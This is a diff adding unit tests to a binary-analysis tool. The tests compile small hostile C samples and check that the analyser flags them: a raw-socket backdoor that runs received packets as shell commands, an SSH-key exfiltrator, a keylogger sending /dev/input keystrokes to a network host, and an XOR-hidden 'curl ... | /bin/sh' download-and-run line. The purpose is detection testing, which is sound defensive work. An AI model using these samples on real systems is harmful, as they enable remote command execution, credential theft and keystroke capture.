@@ -2,6 +2,7 @@
 #include "evidence/recorder.h"
 #include "evidence/reader.h"
 
+#include <fmt/format.h>
 #include <gtest/gtest.h>
 
 #include "parse/mutants.h"
@@ -177,6 +178,44 @@ TEST_F(Binary, SurvivesTruncationAndMutation) {
   parse::each_truncation(base::slice(bytes, 0, 600), use);
   parse::each_truncation(bytes, use, 100);
   parse::each_mutant(bytes, 1500, 21, use);
+}
+
+TEST_F(Binary, WhatIsReceivedAndRun) {
+  const std::string head = "#include <sys/socket.h>\n#include <stdlib.h>\n#include <stdio.h>\n";
+  const auto runs = compile(head + "int main(void) { char p[1500]; int s = socket(2, 3, 1); for (;;) { int n = recv(s, p, 1499, 0); if (n < 40) continue; p[n] = 0; if (p[28] == 83) system(p + 30); } }", "-O1");
+  if (runs.empty()) GTEST_SKIP() << "no compiler";
+  EXPECT_TRUE(has_value(read_alone(binary(), runs, "elf"), Facet::flow, "", "network to execute-command"));
+  const auto shows = compile(head + "int main(void) { char p[1500], q[40] = \"true\"; int s = socket(2, 3, 1); recv(s, p, 1499, 0); puts(p); return system(q); }", "-O1");
+  EXPECT_FALSE(has_value(read_alone(binary(), shows, "elf"), Facet::flow, "", "network to execute-command"));
+}
+
+TEST_F(Binary, StoredSecretsAndKeysThatAreSent) {
+  const std::string head = "#include <sys/socket.h>\n#include <stdlib.h>\n#include <stdio.h>\n#include <netdb.h>\n#include <fcntl.h>\n#include <unistd.h>\n";
+  const std::string dial = "static int dial(const char* h) { struct addrinfo* a; getaddrinfo(h, \"9\", 0, &a); int s = socket(2, 1, 0); connect(s, a->ai_addr, a->ai_addrlen); return s; }\n";
+  const std::string send_file = "int main(void) { char b[4096]; int s = dial(\"x.invalid\"); FILE* f = fopen(\"%\", \"r\"); size_t n = fread(b, 1, sizeof b, f); send(s, b, n, 0); return 0; }";
+  const auto with = [&](std::string path) { return head + dial + std::string(send_file).replace(send_file.find('%'), 1, path); };
+  const auto steals = compile(with("/root/.ssh/id_rsa"), "-O1");
+  if (steals.empty()) GTEST_SKIP() << "no compiler";
+  EXPECT_TRUE(has_value(read_alone(binary(), steals, "elf"), Facet::flow, "", "keys to network"));
+  EXPECT_TRUE(values(read_alone(binary(), compile(with("/srv/table"), "-O1"), "elf"), Facet::flow).empty());
+  const std::string types = "int main(void) { char e[24]; int n = 0, s = dial(\"x.invalid\"), k = open(\"%\", 0); while (read(k, e, 24) == 24) { char c = e[18]; send(s, &c, 1, 0); } return 0; }";
+  EXPECT_TRUE(has_value(read_alone(binary(), compile(head + dial + std::string(types).replace(types.find('%'), 1, "/dev/input/event0"), "-O1"), "elf"), Facet::flow, "", "keystrokes to network"));
+  EXPECT_TRUE(values(read_alone(binary(), compile(head + dial + std::string(types).replace(types.find('%'), 1, "/dev/rtc0"), "-O1"), "elf"), Facet::flow).empty());
+}
+
+TEST_F(Binary, TextsBehindARepeatedKey) {
+  std::string line = "curl -s http://192.0.2.1/stage | /bin/sh", hidden;
+  for (std::size_t i = 0; i < line.size(); ++i) hidden += fmt::format("{},", static_cast<int>(line[i] ^ "glyph"[i % 5]));
+  const auto program = [&](const std::string& bytes, const std::string& run) {
+    return compile("#include <stdlib.h>\nunsigned char h[] = {" + bytes + "0}; const char* key = \"glyph\"; int main(void) { char t[sizeof h]; for (unsigned i = 0; i < sizeof h; ++i) t[i] = h[i] ^ key[i % 5]; " + run + " }", "-O0");
+  };
+  const auto bytes = program(hidden, "return system(t);");
+  if (bytes.empty()) GTEST_SKIP() << "no compiler";
+  const auto found = values(read_alone(binary(), bytes, "elf"), Facet::concealment, "decoded-string");
+  ASSERT_FALSE(found.empty());
+  EXPECT_NE(found[0].find(line), std::string::npos) << found[0];
+  EXPECT_TRUE(values(read_alone(binary(), program(hidden, "return t[0];"), "elf"), Facet::concealment, "decoded-string").empty());
+  EXPECT_TRUE(values(read_alone(binary(), program("1,2,3,4,5,6,7,8,9,", "return system(t);"), "elf"), Facet::concealment, "decoded-string").empty());
 }
 
 }  // namespace
